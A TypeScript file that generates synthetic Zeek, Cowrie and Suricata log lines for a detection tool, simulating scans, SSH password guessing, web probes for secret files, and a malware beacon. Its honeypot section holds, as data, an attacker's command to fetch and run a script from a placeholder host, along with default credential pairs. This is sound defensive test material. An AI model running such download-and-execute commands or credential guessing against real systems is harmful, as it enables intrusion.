import type { Random } from "./random.ts";
import { cowrie, DAY, HOUR, type Line, MINUTE, RESOLVER, suricata, zeek } from "./sensor.ts";

/** The office's own servers. */
const WEB = "192.0.2.2";
const SSH = "192.0.2.3";
const HONEYPOT = "192.0.2.4";
const INFECTED = "192.0.2.21";
const COMMAND_SERVER = "203.0.113.100";
/** Fingerprints of what attackers use. */
const HASSH = "0df0d56bb50c6b2426d8d40234bf1826";
const BEACON_JA3 = "51c64c77e60f3980eea90869b68c58a8";

/** What is not ordinary: by design, each thing that Fyr recognises is there at least once. */
export function attacks(random: Random, now: Date): Line[] {
  const end = now.getTime() - 5 * MINUTE;
  return [
    ...portScan(random, "203.0.113.70", end - 2 * HOUR),
    ...portScan(random, "203.0.113.71", end - 29 * HOUR),
    ...research(random, end - 20 * HOUR),
    ...guessing(random, "203.0.113.80", end - 5 * HOUR),
    ...guessing(random, "198.51.100.20", end - DAY - 3 * HOUR),
    ...honeypot(random, "203.0.113.85", end - 7 * HOUR, true),
    ...honeypot(random, "203.0.113.86", end - 11 * HOUR, false),
    ...honeypot(random, "2001:db8:c00::86", end - 31 * HOUR, false),
    ...probing(random, "198.51.100.8", end - 90 * MINUTE),
    ...probing(random, "203.0.113.9", end - 40 * HOUR),
    ...beacon(random, end),
    ...alerts(end),
    ...remoteWork(random, end),
  ];
}

function portScan(random: Random, from: string, start: number): Line[] {
  return Array.from({ length: 64 }, (_, index) =>
    zeek(start + index * 2500, "conn", random, {
      "id.orig_h": from,
      "id.orig_p": 40_000 + random.below(20_000),
      "id.resp_h": WEB,
      "id.resp_p": 20 + index * 13,
      proto: "tcp",
      conn_state: random.chance(0.5) ? "S0" : "REJ",
      history: "S",
      orig_pkts: 1,
      resp_pkts: 0,
    }),
  );
}

/** A scanner that names itself and returns regularly. */
function research(random: Random, start: number): Line[] {
  return Array.from({ length: 24 }, (_, index) =>
    zeek(start + index * 40 * MINUTE, "http", random, {
      "id.orig_h": `203.0.113.${128 + (index % 8)}`,
      "id.orig_p": 50_000 + index,
      "id.resp_h": WEB,
      "id.resp_p": 80,
      method: "GET",
      host: "www.example.org",
      uri: "/",
      status_code: 200,
      user_agent: "Mozilla/5.0 (compatible; ExampleResearch/1.0; +https://example-research.example) zgrab/0.x",
    }),
  );
}

function guessing(random: Random, from: string, start: number): Line[] {
  return Array.from({ length: 42 }, (_, index) => {
    const at = start + index * 9000;
    const about = {
      uid: `C${random.hex(16)}`,
      "id.orig_h": from,
      "id.orig_p": 33_000 + index,
      "id.resp_h": SSH,
      "id.resp_p": 22,
    };
    const conn = { proto: "tcp", service: "ssh", conn_state: "SF", duration: 2.1, orig_bytes: 1900, resp_bytes: 2400 };
    return [
      zeek(at, "conn", random, { ...about, ...conn, orig_pkts: 14, resp_pkts: 12 }),
      zeek(at + 900, "ssh", random, { ...about, auth_success: false, client: "SSH-2.0-Go", hassh: HASSH }),
    ];
  }).flat();
}

function honeypot(random: Random, from: string, start: number, getsIn: boolean): Line[] {
  const users = ["root", "admin", "test", "ubuntu", "oracle", "pi"] as const;
  const passwords = ["123456", "password", "admin", "raspberry", "root", "qwerty"] as const;
  const session = random.hex(12);
  const about = { src_ip: from, dst_ip: HONEYPOT, src_port: 41_000 + random.below(9000), dst_port: 22 };
  const tries = Array.from({ length: 24 }, (_, index) =>
    cowrie(start + index * 4000, "cowrie.login.failed", session, {
      ...about,
      username: random.pick(users),
      password: random.pick(passwords),
      message: "login attempt failed",
    }),
  );
  const hello = cowrie(start - 500, "cowrie.client.kex", session, { ...about, hassh: HASSH });
  if (!getsIn) return [hello, ...tries];
  const inside = start + 25 * 4000;
  const typed = [
    "uname -a",
    "cat /proc/cpuinfo",
    "cd /tmp; wget http://203.0.113.100/bin.sh",
    "chmod +x bin.sh; ./bin.sh",
  ];
  return [
    hello,
    ...tries,
    cowrie(inside, "cowrie.login.success", session, { ...about, username: "root", password: "raspberry" }),
    ...typed.map((input, index) =>
      cowrie(inside + 2000 * (index + 1), "cowrie.command.input", session, { ...about, input }),
    ),
  ];
}

function probing(random: Random, from: string, start: number): Line[] {
  const paths = [
    "/.env",
    "/wp-login.php",
    "/.git/config",
    "/phpmyadmin/",
    "/actuator/env",
    "/cgi-bin/test",
    "/server-status",
  ];
  return paths.map((uri, index) =>
    zeek(start + index * 7000, "http", random, {
      "id.orig_h": from,
      "id.orig_p": 52_000 + index,
      "id.resp_h": WEB,
      "id.resp_p": 80,
      method: "GET",
      host: "www.example.org",
      uri,
      status_code: 404,
      user_agent: "Mozilla/5.0",
      ja4h: "ge11nn050000_4d4bee5a8a3e_000000000000_000000000000",
    }),
  );
}

/** An infected machine of the office calls home, every half hour. */
function beacon(random: Random, end: number): Line[] {
  return Array.from({ length: 60 }, (_, index) => {
    const at = end - index * 30 * MINUTE;
    const about = {
      uid: `C${random.hex(16)}`,
      "id.orig_h": INFECTED,
      "id.orig_p": 55_000 + index,
      "id.resp_h": COMMAND_SERVER,
      "id.resp_p": 8443,
    };
    return [
      zeek(at - 40, "dns", random, {
        "id.orig_h": INFECTED,
        "id.orig_p": 56_000 + index,
        "id.resp_h": RESOLVER,
        "id.resp_p": 53,
        proto: "udp",
        query: "update.placeholder.example",
        qtype_name: "A",
        rcode_name: "NOERROR",
        answers: [COMMAND_SERVER],
      }),
      zeek(at, "conn", random, {
        ...about,
        proto: "tcp",
        service: "ssl",
        conn_state: "SF",
        duration: 1.2,
        orig_bytes: 412,
        resp_bytes: 320,
        orig_pkts: 6,
        resp_pkts: 5,
      }),
      zeek(at + 80, "ssl", random, {
        ...about,
        server_name: "update.placeholder.example",
        ja3: BEACON_JA3,
        established: true,
      }),
    ];
  }).flat();
}

function alerts(end: number): Line[] {
  const alert = (
    ago: number,
    src_ip: string,
    dest_ip: string,
    dest_port: number,
    signature: string,
    category: string,
  ) =>
    suricata(end - ago, "alert", {
      src_ip,
      src_port: 44_321,
      dest_ip,
      dest_port,
      proto: "TCP",
      alert: { action: "allowed", signature_id: 1_000_000 + dest_port, signature, category, severity: 2 },
    });
  return [
    alert(93 * MINUTE, "198.51.100.8", WEB, 80, "DEMO Request for an environment file", "Web Application Attack"),
    alert(2 * HOUR, "203.0.113.70", WEB, 443, "DEMO Scan of many ports", "Detection of a Network Scan"),
    alert(3 * HOUR, INFECTED, COMMAND_SERVER, 8443, "DEMO Known command server", "A Network Trojan was detected"),
    alert(6 * HOUR, "203.0.113.80", SSH, 22, "DEMO Many SSH logins", "Misc Attack"),
    alert(40 * HOUR, "203.0.113.9", WEB, 80, "DEMO Request for an environment file", "Web Application Attack"),
  ];
}

/** People of the office who come in over a VPN service or from home. */
function remoteWork(random: Random, end: number): Line[] {
  const from = ["198.51.100.10", "198.51.100.140", "192.0.2.44", "192.0.2.72", "2001:db8:600:1::5"] as const;
  return Array.from({ length: 40 }, () =>
    zeek(end - random.below(2 * DAY), "ssh", random, {
      "id.orig_h": random.pick(from),
      "id.orig_p": 50_000 + random.below(9000),
      "id.resp_h": SSH,
      "id.resp_p": 22,
      auth_success: true,
      client: "SSH-2.0-OpenSSH_9.9",
      user: random.pick(["ada", "grace", "alan"]),
    }),
  );
}
